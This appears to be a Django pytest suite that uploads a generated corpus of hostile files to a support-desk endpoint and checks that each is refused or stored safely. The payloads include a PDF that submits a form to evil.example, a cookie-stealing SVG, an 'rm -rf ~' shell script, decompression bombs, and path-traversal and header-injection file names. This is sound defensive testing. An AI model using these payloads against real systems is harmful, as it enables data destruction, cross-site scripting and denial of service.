"""A corpus of hostile uploads, generated in code (no binary files in the repository), sent through
the real upload endpoint.

Each file either gets SPEC's error (`invalid_file_type`, `validation_error`) with nothing stored
(no row, no file under MEDIA_ROOT), or is stored safely: under a generated name, with its original
name sanitized to at most 255 characters, its bytes unchanged, and served only as a download
(`Content-Disposition: attachment`, `X-Content-Type-Options: nosniff`, a sandboxing CSP; inline
only for images). Decompression bombs are checked without decoding them: a child process measures
the memory the check takes.
"""

from __future__ import annotations

import functools
import io
import json
import re
import struct
import subprocess
import sys
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from PIL import Image
from rest_framework.test import APIClient

from desk.support import filetypes
from desk.support.models import Attachment, Ticket
from desk.support.tests import files
from desk.support.tests.helpers import assert_error, snapshot, stored_files, upload_raw

pytestmark = pytest.mark.django_db

STORED_NAME = re.compile(r"^attachments/\d{4}/\d{2}/[0-9a-f]{32}\.(png|jpe?g|jfif|jpe|gif|webp|pdf|txt|csv|docx|xlsx)$")
IMAGE_TYPES = {"image/png", "image/jpeg", "image/gif", "image/webp"}
SANDBOX_CSP = "default-src 'none'; img-src 'self'; sandbox"
ROOT = Path(__file__).resolve().parents[3]

# --- the corpus: building blocks ------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int, *, rows: int | None = None) -> bytes:
    """A well-formed PNG (RGB, 8 bit) announcing width × height, whose compressed pixel data is
    all zeros: a few kilobytes that would decode to width × height × 4 bytes. `rows` limits the
    pixel data actually present (a header-only bomb)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * width)
    data = b"".join(compressor.compress(row) for _ in range(height if rows is None else rows)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def gif_declaring(width: int, height: int) -> bytes:
    """A GIF whose logical screen and only frame announce width × height (LZW data cut short)."""
    gif = bytearray(files.gif_bytes())
    gif[6:10] = struct.pack("<HH", width, height)
    image_descriptor = gif.index(b"\x2c", 13)
    gif[image_descriptor + 5 : image_descriptor + 9] = struct.pack("<HH", width, height)
    return bytes(gif)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real JPEG whose frame header (SOF0) is patched to announce width × height."""
    jpeg = bytearray(files.jpeg_bytes())
    sof = jpeg.index(b"\xff\xc0")
    jpeg[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def webp_declaring(width: int, height: int, *, extended: bool) -> bytes:
    """A WebP announcing width × height, as a lossless bitstream header (VP8L) or an extended
    canvas (VP8X); the pixel data is a tiny real image's."""
    small = io.BytesIO()
    Image.new("RGB", (4, 4)).save(small, "WEBP", lossless=True)
    data = bytearray(small.getvalue())
    assert data[12:16] == b"VP8L"
    if not extended:
        bits = (width - 1) | ((height - 1) << 14) | (int.from_bytes(data[21:25], "little") & ~((1 << 28) - 1))
        data[21:25] = bits.to_bytes(4, "little")
        return bytes(data)
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little")
    vp8x += (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x + bytes(data[12:])
    return b"RIFF" + struct.pack("<I", len(body)) + body


@functools.lru_cache(maxsize=1)
def webp_of_zeros(width: int = 6000, height: int = 6000) -> bytes:
    """A real lossless WebP of width × height black pixels: a few dozen bytes."""
    buffer = io.BytesIO()
    Image.new("L", (width, height)).save(buffer, "WEBP", lossless=True, method=0, quality=0)
    return buffer.getvalue()


def noisy(fmt: str, size: tuple[int, int] = (256, 256)) -> bytes:
    """A real image of random pixels, so that cutting it in half cuts the pixel data."""
    image = Image.effect_noise(size, 80).convert("RGB")
    if fmt == "GIF":
        image = image.convert("P")
    buffer = io.BytesIO()
    image.save(buffer, fmt)
    return buffer.getvalue()


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def pdf_with_javascript() -> bytes:
    return files.pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *files.PDF_PAGE_OBJECTS[1:],
            b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/');) >>",
        ]
    )


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@functools.lru_cache(maxsize=1)
def zip_bomb_xlsx() -> bytes:
    """A spreadsheet-shaped zip whose extra part inflates 256 MiB of zeros from ~250 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        megabyte = b"\x00" * (1 << 20)
        with archive.open("xl/media/bomb.bin", "w") as bomb:
            for _ in range(256):
                bomb.write(megabyte)
    return buffer.getvalue()


def docx_of_many_parts() -> bytes:
    """A word-processing document of tiny parts, one more than an archive may hold."""
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
    parts.update({f"word/media/{n}.bin": b"x" for n in range(filetypes.ARCHIVE_MAX_ENTRIES - 1)})
    return _zip(parts)


def docx_unpacking_to(size: int) -> Any:
    def build() -> bytes:
        return _zip(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<document/>",
                "word/media/a.bin": b"\x00" * size,
            }
        )

    return build


def zip_with_a_lying_mimetype() -> bytes:
    """An OpenDocument-shaped zip whose `mimetype` entry claims 39 bytes but inflates to 8 MiB."""
    data = bytearray(_zip({"mimetype": b"a" * (8 << 20), "content.xml": b"<x/>"}))
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<I", 39)  # the uncompressed size it claims
    return bytes(data)


PE = files.WINDOWS_EXE + b"\x00" * 64 + b"This program cannot be run in DOS mode."
ELF = files.ELF_BINARY
HTML = files.HTML
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
TEXT_MENTIONING_SCRIPT = b"Steps to reproduce:\n1. paste <script>alert(1)</script> in the name field\n"


# --- the corpus -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    data: Any  # bytes, or a function making them (for the costly ones)
    filename: str
    refused: str | None = None  # the error code, or None when it is stored safely
    content_type: str | None = None  # for stored files: the type found in the bytes
    shown: str | None = None  # for stored files: the sanitized name, when it differs

    def bytes(self) -> bytes:
        return self.data() if callable(self.data) else self.data


INVALID = "invalid_file_type"
VALIDATION = "validation_error"

CORPUS = [
    # Polyglots: a valid file with something else appended or prepended.
    Case("png with html appended", files.png_bytes() + HTML, "cat.png", content_type="image/png"),
    Case("png with html appended, named .html", files.png_bytes() + HTML, "cat.html", INVALID),
    Case("gif header then script", b"GIF89a=1;alert(document.domain);//" + b"A" * 64, "a.gif", INVALID),
    Case(
        "gif with a java archive appended",
        files.gif_bytes() + files.plain_zip_bytes(),
        "a.gif",
        content_type="image/gif",
    ),
    Case("pdf with javascript", pdf_with_javascript(), "invoice.pdf", content_type="application/pdf"),
    Case("pdf header then html", b"%PDF-1.4\n" + HTML, "page.pdf", content_type="application/pdf"),
    # Markup with script.
    Case("html as .html", HTML, "page.html", INVALID),
    Case("html renamed .png", HTML, "page.png", INVALID),
    Case("html renamed .txt", HTML, "page.txt", INVALID),
    Case("html with a byte-order mark and blank lines", b"\xef\xbb\xbf\r\n  " + HTML, "page.txt", INVALID),
    Case("html in utf-16", HTML.decode().encode("utf-16"), "page.txt", INVALID),
    Case("html without extension", HTML, "page", INVALID),
    Case("svg as .svg", SVG, "logo.svg", INVALID),
    Case("svg renamed .png", SVG, "logo.png", INVALID),
    Case("svg renamed .txt", SVG, "logo.txt", INVALID),
    Case("svg without prolog renamed .txt", files.SVG, "logo.txt", INVALID),
    Case("text that quotes a script tag", TEXT_MENTIONING_SCRIPT, "steps.txt", content_type="text/plain"),
    Case("text named .xht", b"just words", "notes.xht", content_type="text/plain"),
    # Executables renamed.
    Case("PE renamed .png", PE, "photo.png", INVALID),
    Case("PE renamed .pdf", PE, "invoice.pdf", INVALID),
    Case("PE renamed .docx", PE, "letter.docx", INVALID),
    Case("PE renamed .txt", PE, "readme.txt", INVALID),
    Case("ELF renamed .png", ELF, "photo.png", INVALID),
    Case("ELF renamed .pdf", ELF, "invoice.pdf", INVALID),
    Case("ELF renamed .docx", ELF, "letter.docx", INVALID),
    Case("shell script as .sh", b"#!/bin/sh\nrm -rf ~\n", "fix.sh", INVALID),
    Case("shell script renamed .png", b"#!/bin/sh\nrm -rf ~\n", "fix.png", INVALID),
    # Archives that are not documents.
    Case("plain zip named .docx", files.plain_zip_bytes(), "letter.docx", INVALID),
    Case("plain zip named .xlsx", files.plain_zip_bytes(), "sheet.xlsx", INVALID),
    Case("zip entry lying about its size", zip_with_a_lying_mimetype, "doc.odt", INVALID),
    Case("zip bomb named .xlsx", zip_bomb_xlsx, "sheet.xlsx", INVALID),
    Case("document of too many parts", docx_of_many_parts, "letter.docx", INVALID),
    Case(
        "document that unpacks within the budget",
        docx_unpacking_to(32 << 20),
        "letter.docx",
        content_type=filetypes.DOCX,
    ),
    # Truncated images.
    Case("png cut in half", half(noisy("PNG")), "cut.png", INVALID),
    Case("jpeg cut in half", half(noisy("JPEG")), "cut.jpg", INVALID),
    Case("gif cut in half", half(noisy("GIF")), "cut.gif", INVALID),
    Case("webp cut in half", half(noisy("WEBP")), "cut.webp", INVALID),
    Case("big png cut in half", half(png_declaring(4500, 4500)), "cut.png", INVALID),
    Case("big webp cut in half", half(webp_declaring(4000, 4000, extended=True)), "cut.webp", INVALID),
    # Decompression bombs: refused from their headers.
    Case("png declaring 50000x50000", png_declaring(50_000, 50_000, rows=1), "bomb.png", INVALID),
    Case("gif declaring 65535x65535", gif_declaring(65_535, 65_535), "bomb.gif", INVALID),
    Case("jpeg declaring 65500x65500", jpeg_declaring(65_500, 65_500), "bomb.jpg", INVALID),
    Case("webp (VP8L) declaring 16384x16384", webp_declaring(16_384, 16_384, extended=False), "bomb.webp", INVALID),
    Case("webp (VP8X) declaring 16384x16384", webp_declaring(16_384, 16_384, extended=True), "bomb.webp", INVALID),
    # A bomb within the pixel budget: accepted, checked from its structure without decoding.
    Case("png of 4500x4500 zeros", functools.partial(png_declaring, 4500, 4500), "big.png", content_type="image/png"),
    Case("webp of 6000x6000 zeros", webp_of_zeros, "big.webp", content_type="image/webp"),
    # Empty files.
    Case("0-byte .png", b"", "empty.png", VALIDATION),
    Case("0-byte .txt", b"", "empty.txt", VALIDATION),
    Case("0-byte without a name", b"", "x", VALIDATION),
    # Names: the bytes are a real PNG (or text); only the name is hostile.
    Case("path traversal", files.png_bytes(), "../../etc/passwd.png", content_type="image/png", shown="passwd.png"),
    Case("windows traversal", files.TEXT, "..\\..\\win.ini.txt", content_type="text/plain", shown="win.ini.txt"),
    Case("absolute path", files.png_bytes(), "/etc/cron.d/job.png", content_type="image/png", shown="job.png"),
    Case("drive path", files.png_bytes(), "C:\\Windows\\win.png", content_type="image/png", shown="win.png"),
    Case("UNC path", files.png_bytes(), "\\\\server\\share\\x.png", content_type="image/png", shown="x.png"),
    Case(
        "control characters",
        files.png_bytes(),
        "a\x01b\x08c\x1bd\x7fe.png",
        content_type="image/png",
        shown="abcde.png",
    ),
    Case("header injection", files.png_bytes(), "a.png\r\nX-Evil: 1", content_type="image/png"),
    Case("right-to-left override hiding .exe", files.png_bytes(), "photo\u202egnp.exe", INVALID),
    Case(
        "right-to-left override",
        files.png_bytes(),
        "report\u202efdp.png",
        content_type="image/png",
        shown="reportfdp.png",
    ),
    Case(
        "zero-width and bidi marks",
        files.png_bytes(),
        "\u200eph\u200bo\u2066to.png",
        content_type="image/png",
        shown="photo.png",
    ),
    Case("markup in the name", files.png_bytes(), "<img src=x onerror=alert(1)>.png", content_type="image/png"),
    Case("300 characters", files.png_bytes(), "n" * 296 + ".png", content_type="image/png", shown="n" * 251 + ".png"),
    Case(
        "300 wide characters",
        files.png_bytes(),
        "文" * 300 + ".png",
        content_type="image/png",
        shown="文" * 251 + ".png",
    ),
    Case("300-character extension", files.TEXT, "notes." + "t" * 300, content_type="text/plain"),
    Case("extension of 100 wide characters", files.TEXT, "notes." + "文" * 100, content_type="text/plain"),
    Case("only dots", files.png_bytes(), "....", content_type="image/png", shown="file"),
    Case("one dot", files.png_bytes(), ".", VALIDATION),
    Case("two dots", files.png_bytes(), "..", VALIDATION),
    Case("only spaces", files.png_bytes(), "   ", content_type="image/png", shown="file"),
    Case("fullwidth slashes", files.png_bytes(), "..／..／etc／passwd.png", content_type="image/png"),
]


@pytest.fixture
def ticket(customer: Any) -> Ticket:
    from desk.support import services

    return services.ticket_create(actor=customer, title="Uploads", message_text="Files follow.", category="general")


def _clean(name: str) -> bool:
    return all(not unicodedata.category(ch).startswith("C") for ch in name) and not set(name) & set('/\\<>:"|?*')


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_hostile_upload_is_refused_or_stored_safely(
    customer_client: APIClient, ticket: Ticket, _isolated_media: Path, case: Case
) -> None:
    data = case.bytes()
    before = snapshot()
    response = upload_raw(customer_client, ticket, files.Part("file", data, case.filename, "image/png"))

    if case.refused:
        assert_error(response, 400, case.refused)
        assert snapshot() == before, "a refused upload changed the database"
        assert stored_files(_isolated_media) == [], "a refused upload left a file behind"
        return

    assert response.status_code == 201, response.content[:400]
    body = response.json()
    assert body["content_type"] == case.content_type
    attachment = Attachment.objects.get(pk=body["id"])
    # Stored under a generated name inside MEDIA_ROOT, and nothing else written.
    assert STORED_NAME.match(attachment.file.name), attachment.file.name
    assert stored_files(_isolated_media) == [attachment.file.name]
    path = (_isolated_media / attachment.file.name).resolve()
    assert path.is_relative_to(_isolated_media.resolve())
    assert path.read_bytes() == data
    if case.content_type in ("text/plain", "text/csv"):
        assert path.suffix in (".txt", ".csv")  # never the extension the uploader chose
    # The name people see is sanitized.
    shown = body["filename"]
    assert 0 < len(shown) <= 255
    assert _clean(shown), shown
    if case.shown is not None:
        assert shown == case.shown

    # Served only as a download; an image may be previewed inline, in a sandbox, never sniffed.
    download = customer_client.get(body["download_url"])
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == data
    assert download["Content-Type"] == case.content_type
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Security-Policy"] == SANDBOX_CSP
    assert "\n" not in download["Content-Disposition"] and "\r" not in download["Content-Disposition"]
    preview = customer_client.get(body["download_url"] + "?inline=1")
    expected = "inline;" if case.content_type in IMAGE_TYPES else "attachment;"
    assert preview["Content-Disposition"].startswith(expected)
    assert preview["X-Content-Type-Options"] == "nosniff"
    assert preview["Content-Security-Policy"] == SANDBOX_CSP


def test_the_client_header_and_name_never_make_a_file_a_page(customer_client: APIClient, ticket: Ticket) -> None:
    """Whatever Content-Type the client claims, what is stored and served is what the bytes are."""
    for claimed in ("text/html", "image/svg+xml", "application/javascript", "application/x-msdownload"):
        response = upload_raw(customer_client, ticket, files.Part("file", files.png_bytes(), "a.png", claimed))
        assert response.json()["content_type"] == "image/png"
        assert customer_client.get(response.json()["download_url"])["Content-Type"] == "image/png"


# --- bombs cost neither memory nor a decode ---------------------------------------------------

# The check runs in a child process whose address space may grow by at most ALLOWANCE_MB: a check
# that decoded a bomb (the smallest below would decode to 144 MB, the zip to 256 MB) would run out
# of memory instead of answering.
ALLOWANCE_MB = 48
PROBE = """
import io, json, resource, sys
from desk.support import filetypes
data = open(sys.argv[1], "rb").read()
allowance = int(sys.argv[3]) * 1024 * 1024
size = next(int(line.split()[1]) * 1024 for line in open("/proc/self/status") if line.startswith("VmSize:"))
resource.setrlimit(resource.RLIMIT_AS, (size + allowance, resource.RLIM_INFINITY))
try:
    outcome = filetypes.sniff(io.BytesIO(data), sys.argv[2]).content_type
except filetypes.Rejected as exc:
    outcome = "refused: " + str(exc)
except MemoryError:
    outcome = "out of memory"
print(json.dumps({"outcome": outcome}))
"""


def probe(tmp_path: Path, data: bytes, filename: str, code: str = PROBE) -> str:
    sample = tmp_path / "sample.bin"
    sample.write_bytes(data)
    result = subprocess.run(
        [sys.executable, "-c", code, str(sample), filename, str(ALLOWANCE_MB)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout)["outcome"]


BOMBS = [
    (
        "png declaring 50000x50000",
        lambda: png_declaring(50_000, 50_000, rows=1),
        "b.png",
        "refused: The image's dimensions",
    ),
    ("gif declaring 65535x65535", lambda: gif_declaring(65_535, 65_535), "b.gif", "refused: The image's dimensions"),
    ("jpeg declaring 65500x65500", lambda: jpeg_declaring(65_500, 65_500), "b.jpg", "refused: The image's dimensions"),
    (
        "webp declaring 16384x16384",
        lambda: webp_declaring(16_384, 16_384, extended=True),
        "b.webp",
        "refused: The image's",
    ),
    ("webp of 6000x6000 in a few bytes", webp_of_zeros, "b.webp", "image/webp"),
    ("png of 6000x6000 zeros", lambda: png_declaring(6_000, 6_000), "b.png", "image/png"),
    ("zip bomb named .xlsx", zip_bomb_xlsx, "b.xlsx", "refused: The document unpacks to more"),
    # Inflated a chunk at a time to prove its size: within the allowance, and accepted.
    ("document unpacking to 200 MB", docx_unpacking_to(200 << 20), "b.docx", filetypes.DOCX),
    ("zip entry lying about its size", zip_with_a_lying_mimetype, "b.odt", "refused: This type"),
]


@pytest.mark.parametrize(("label", "make", "filename", "outcome"), BOMBS, ids=[b[0] for b in BOMBS])
def test_checking_a_bomb_does_not_decode_it(tmp_path: Path, label: str, make: Any, filename: str, outcome: str) -> None:
    assert probe(tmp_path, make(), filename).startswith(outcome), label


def test_the_memory_allowance_would_stop_a_decode(tmp_path: Path) -> None:
    """Guards the guard: decoding a bomb's pixels does not fit in the probe's allowance."""
    decode = PROBE.replace(
        "outcome = filetypes.sniff(io.BytesIO(data), sys.argv[2]).content_type",
        "from PIL import Image; Image.open(io.BytesIO(data)).load(); outcome = 'decoded'",
    )
    assert probe(tmp_path, png_declaring(6_000, 6_000), "b.png", decode) == "out of memory"


def test_a_bomb_upload_completes_and_stores_nothing(
    customer_client: APIClient, ticket: Ticket, _isolated_media: Path, settings: Any
) -> None:
    response = upload_raw(customer_client, ticket, files.Part("file", png_declaring(50_000, 50_000, rows=1), "b.png"))
    body = assert_error(response, 400, "invalid_file_type")
    assert "dimensions" in body["message"]
    assert stored_files(_isolated_media) == []
    assert not Attachment.objects.exists()


def test_the_pixel_budgets_hold_together() -> None:
    assert all(budget <= filetypes.MAX_IMAGE_PIXELS for budget in filetypes.DECODE_MAX_PIXELS.values())
    assert len(zip_bomb_xlsx()) <= settings.ATTACHMENT_MAX_BYTES
